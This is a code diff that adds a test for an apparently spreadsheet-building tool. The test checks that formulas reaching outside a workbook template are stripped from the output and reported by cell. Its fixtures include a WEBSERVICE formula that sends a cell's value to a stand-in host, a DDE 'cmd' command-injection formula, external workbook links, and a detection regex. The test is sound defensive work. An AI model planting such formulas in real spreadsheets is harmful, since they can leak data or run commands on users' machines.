@@ -341,3 +341,44 @@ def test_what_intake_lets_through_stays_within_500_mib(tmp_path):
     )
     assert done.returncode == 1
     assert "大.xlsx" in done.stderr and "Traceback" not in done.stderr
+
+
+OUTWARD = {
+    "D2": '=WEBSERVICE("http://example.com/?"&A1)',
+    "E2": "=cmd|' /C calc'!A0",
+    "F2": "=[1]Sheet1!A1",
+    "G2": "='http://example.com/[a.xlsx]S'!A1",
+    "H2": '=HYPERLINK("http://example.com/?"&A1,"点这里")',
+    "I2": '=_xlfn.RTD("prog","","x")',
+    "J2": '=SUM(1,CUBEVALUE("连接","[x]"))',
+    "K2": "=SUM((1",
+}
+INWARD = {"D1": "=SUM(1,2)", "E1": '=HYPERLINK("#Sheet!A1","回到开头")', "F1": '="a|b [1]!"'}
+
+
+def test_what_calls_out_of_a_template_is_not_carried_and_named_by_cell(tmp_path):
+    book = openpyxl.load_workbook(io.BytesIO(template()))
+    sheet = book.active
+    for cell, formula in {**OUTWARD, **INWARD}.items():
+        sheet[cell] = formula
+    fill = openpyxl.styles.PatternFill("solid", bgColor="FF0000")
+    rule = openpyxl.formatting.rule.FormulaRule(formula=['WEBSERVICE("http://example.com")<>""'], fill=fill)
+    sheet.conditional_formatting.add("A4:A4", rule)
+    validation = openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1="[1]S!$A$1:$A$3")
+    validation.add("C4")
+    sheet.add_data_validation(validation)
+    for name, text in {"外": "'file:///c:/[x.xlsx]S'!$A$1", "网": 'WEBSERVICE("http://e")', "内": "Sheet!$A$1"}.items():
+        book.defined_names[name] = openpyxl.workbook.defined_name.DefinedName(name, attr_text=text)
+    stream = io.BytesIO()
+    book.save(stream)
+    root = workspace(tmp_path / "w", json_ledger(), {"总表": stream.getvalue()})
+    result = run("build", "--json", "--workspace", root)
+    assert result.exit_code == 0, result.output
+    problems = [each for each in json.loads(result.output)["problems"] if each["code"] == "formula-not-carried"]
+    assert {each["cell"] for each in problems} == {*OUTWARD, "A4", "C4", ""}
+    parts = parts_of((root / "output" / "总表.xlsx").read_bytes())
+    harm = re.compile(rb"WEBSERVICE|cmd\||\[1\][^!]*!A|http://e|file:///|RTD|CUBEVALUE|SUM\(\(")
+    assert {name for name, data in parts.items() if harm.search(data)} == set()
+    formulas = set(re.findall(rb"<f>(.*?)</f>", parts["xl/worksheets/sheet1.xml"]))
+    assert len(formulas) == len(INWARD)
+    assert b"\xe5\x86\x85" in parts["xl/workbook.xml"]
